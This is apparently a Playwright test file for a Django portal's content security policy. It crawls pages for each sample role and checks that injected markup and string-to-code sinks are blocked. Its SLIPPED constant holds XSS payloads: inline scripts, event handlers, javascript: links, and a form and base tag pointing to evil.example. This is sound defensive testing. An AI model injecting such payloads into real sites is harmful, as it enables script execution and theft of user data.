"""The content policy, in a real browser: every page of the sample keeps it, and what is slipped into a page does nothing.

Each role follows the links from its home, so that one page of each route is opened; the browser's own events say what the
policy stopped.
"""

import re
import subprocess
import sys
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from django.urls import Resolver404, resolve
from playwright.sync_api import Browser, BrowserContext, Error, Page

from tests.portal.web.test_evidence_in_a_browser import until
from tests.serving import ROOT, Portal

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PEOPLE = ("priya", "marcus", "tomas", "dana", "ruth", "jonas", "helen")
WAIT_MS = 60_000
MOST_PAGES = 90
LISTEN = """
window.breaches = [];
window.ran = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.breaches.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile || ""}:${event.lineNumber}`);
});
"""
# Each would set the word that the test looks for, if it ran.
SLIPPED = """
<script>window.ran.push("inline script")</script>
<script src="data:text/javascript,window.ran.push('data script')"></script>
<img src="/nowhere.png" onerror="window.ran.push('handler')">
<svg onload="window.ran.push('svg handler')"></svg>
<a id="slipped-link" href="javascript:window.ran.push('link')">a link</a>
<form id="slipped-form" action="https://evil.example/take"><input name="a" value="b"><button id="slipped-send">send</button></form>
<iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
<object data="data:text/html,<script>parent.ran.push('object')</script>"></object>
<base href="https://evil.example/">
<style>body { --slipped: yes }</style>
<p id="slipped-style" style="--slipped: yes">x</p>
<div hx-on:click="window.ran.push('hx-on')" id="slipped-hx">hx</div>
<div hx-get="/signin" hx-trigger="click[window.ran.push('hx filter')]" id="slipped-filter">hx</div>
<meta http-equiv="refresh" content="9999;url=https://evil.example/">
"""
STRINGS = {
    "innerHTML": "document.createElement('div').innerHTML = '<b>x</b>'",
    "outerHTML": "document.getElementById('main').outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "srcdoc": "document.createElement('iframe').srcdoc = '<b>x</b>'",
    "script text": "document.createElement('script').text = 'window.ran.push(1)'",
    "script address": "document.createElement('script').src = '/static/js/app.js'",
    "write": "document.write('<b>x</b>')",
    "fragment": "document.createRange().createContextualFragment('<b>x</b>')",
    "worker": "new Worker('/static/js/hasher.js')",
    "eval": "(0, eval)('window.ran.push(1)')",
    "Function": "new Function('window.ran.push(1)')()",
    "timer": "setTimeout('window.ran.push(1)', 0)",
    "another policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    "the same policy again": "trustedTypes.createPolicy('clearhold', { createHTML: (text) => text })",
}


@pytest.fixture
def sample(served: Portal) -> str:
    """The word that signs its people in."""
    subprocess.run([sys.executable, "manage.py", "load_sample"], cwd=ROOT, env=served.environment, check=True)
    return (served.var / "keys" / "sample-password").read_text().strip()


def signed_in(chromium: Browser, base: str, name: str, word: str) -> tuple[BrowserContext, Page]:
    context = chromium.new_context()
    context.set_default_timeout(WAIT_MS)
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto(f"{base}/signin")
    page.fill("[name=email]", f"{name}@sample.example")
    page.fill("[name=password]", word)
    page.click("button[type=submit]")
    page.wait_for_url(re.compile(r"/o/sample/"))
    return context, page


def test_every_page_of_the_sample_keeps_it(served: Portal, sample: str, chromium: Browser):
    base = f"http://127.0.0.1:{served.port}"
    found, routes = [], set()
    for name in PEOPLE:
        context, page = signed_in(chromium, base, name, sample)
        found += [f"{name} {line}" for line in crawled(page, base, routes)]
        context.close()
    assert not found, "\n".join(found)
    assert len(routes) > 40, sorted(routes)


def crawled(page: Page, base: str, routes: set[str]) -> Iterator[str]:
    """What is wrong with the pages that links lead to: this role's home, and one of each route that is still new."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    home = urlsplit(page.url).path
    waiting, opened = [home, "/organizations", "/verify"], 0
    while waiting and opened < MOST_PAGES:
        path = waiting.pop(0)
        route = route_of(path)
        # Each role's own home is opened, once.
        if route is None or (route in routes and (path != home or opened)):
            continue
        routes.add(route)
        opened += 1
        if not opens(page, base + path):
            continue
        yield from (f"{path}: {line}" for line in page.evaluate("window.breaches"))
        yield from (f"{path}: {line}" for line in said)
        said.clear()
        links = page.eval_on_selector_all("a[href]", "all => all.map(one => one.getAttribute('href'))")
        waiting += [link.split("#")[0] for link in links if link.startswith("/")]


def opens(page: Page, address: str) -> bool:
    """Whether the browser shows it; a file to keep it saves, or shows as it is."""
    try:
        answer = page.goto(address)
    except Error as error:
        if "Download is starting" in error.message or "ERR_ABORTED" in error.message:
            return False
        raise
    assert answer is not None and answer.ok, f"{address}: {answer and answer.status}"
    if "text/html" not in answer.headers.get("content-type", ""):
        return False
    page.wait_for_selector("html[data-ready], .printpage", state="attached")
    return True


def route_of(path: str) -> str | None:
    try:
        return str(resolve(urlsplit(path).path).route)
    except Resolver404:
        return None


def test_what_is_slipped_into_a_page_does_nothing(served: Portal, sample: str, chromium: Browser):
    """As if a template had forgotten to escape: the page with markup in it, under the headers that it has."""
    base = f"http://127.0.0.1:{served.port}"
    context, page = signed_in(chromium, base, "priya", sample)

    def slip(route):
        answer = route.fetch()
        body = answer.text().replace("</main>", f"{SLIPPED}</main>")
        route.fulfill(response=answer, body=body)

    page.route("**/o/sample/findings", slip)
    page.goto(f"{base}/o/sample/findings")
    page.wait_for_selector("html[data-ready]", state="attached")
    for target in ("#slipped-link", "#slipped-send", "#slipped-hx", "#slipped-filter"):
        page.locator(target).dispatch_event("click")
    until(page, lambda: page.evaluate("window.breaches.some((line) => line.startsWith('form-action'))"))
    assert page.evaluate("window.ran") == []
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--slipped')") == ""
    assert (
        page.evaluate("getComputedStyle(document.getElementById('slipped-style')).getPropertyValue('--slipped')") == ""
    )
    assert urlsplit(page.url).path == "/o/sample/findings" and page.evaluate("document.baseURI").startswith(base)
    stopped = {line.split()[0] for line in page.evaluate("window.breaches")}
    assert {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "style-src-attr",
        "form-action",
        "base-uri",
    } <= stopped
    context.close()


def test_strings_become_neither_markup_nor_code(served: Portal, sample: str, chromium: Browser):
    base = f"http://127.0.0.1:{served.port}"
    context, page = signed_in(chromium, base, "priya", sample)
    page.goto(f"{base}/o/sample/findings")
    page.wait_for_selector("html[data-ready]", state="attached")
    # From a script of the page's own: what a debugger evaluates passes by the policy.
    page.route("**/static/probe.js", lambda route: route.fulfill(content_type="text/javascript", body=probe()))
    results = page.evaluate(
        """async () => {
          const module = await import("/static/probe.js");
          return module.results;
        }"""
    )
    assert {name: outcome for name, outcome in results.items() if outcome != "refused"} == {}
    assert page.evaluate("window.ran") == []
    context.close()


def probe() -> str:
    lines = [
        f"try {{ {text}; results[{name!r}] = 'went through'; }} catch (error) {{ results[{name!r}] = 'refused'; }}"
        for name, text in STRINGS.items()
    ]
    return "export const results = {};\n" + "\n".join(lines)


def test_a_large_file_is_still_hashed_in_a_worker(served: Portal, sample: str, chromium: Browser):
    """The worker's script has a policy and an embedder of its own; a policy too strict would stop it silently."""
    base = f"http://127.0.0.1:{served.port}"
    context, page = signed_in(chromium, base, "marcus", sample)
    page.goto(f"{base}/o/sample/evidence/upload")
    page.wait_for_selector("html[data-ready]", state="attached")
    hashed = page.evaluate(
        """async () => {
          const form = document.querySelector("[data-hasher]");
          const source = [...document.scripts].find((one) => one.src.includes("/js/trusted")).src;
          const { startWorker } = await import(source);
          const worker = startWorker(form.dataset.hasher);
          const answer = new Promise((resolve, reject) => {
            worker.onmessage = ({ data }) => { if (data.hash || data.failed) resolve(data.hash || data.failed); };
            worker.onerror = () => reject(new Error("the worker failed"));
          });
          worker.postMessage({ file: new Blob(["abc"]) });
          return answer;
        }"""
    )
    assert hashed == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    assert page.evaluate("window.crossOriginIsolated") is True
    assert page.evaluate("window.breaches") == []
    context.close()
